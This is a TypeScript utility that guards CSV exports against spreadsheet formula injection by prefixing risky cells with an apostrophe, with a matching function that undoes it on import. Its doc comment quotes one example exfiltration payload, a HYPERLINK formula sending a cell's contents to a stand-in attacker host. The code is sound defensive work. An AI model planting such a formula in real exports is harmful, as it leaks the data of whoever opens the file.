/** A phone number as people type it (`+1 (555) 010-2000`, `-0123`): left as it is. */
const PHONE_LIKE = /^[+-][0-9 ()\-./x]*$/i;

/**
 * Spreadsheet programs run a cell that starts with =, +, - or @ (or a tab or carriage return
 * before one) as a formula: CSV injection, e.g. a resident's survey answer
 * `=HYPERLINK("https://evil.example/?"&A1)` opened by an officer in Excel. Every CSV we write
 * passes its text cells through this: such a value gets an apostrophe in front, which the
 * spreadsheet shows as text. Phone numbers are left alone. A value that already looks guarded
 * gets a second apostrophe, so `unguardFormula` on import gives back exactly what was exported.
 */
export function guardFormula(value: string): string {
  const formula = /^[=@\t\r]/.test(value) || (/^[+-]/.test(value) && !PHONE_LIKE.test(value));
  return formula || /^'[=+\-@\t\r]/.test(value) ? `'${value}` : value;
}

/** The value `guardFormula` was given (for files we exported and the officer imports again). */
export function unguardFormula(value: string): string {
  return /^'+[=+\-@\t\r]/.test(value) ? value.slice(1) : value;
}
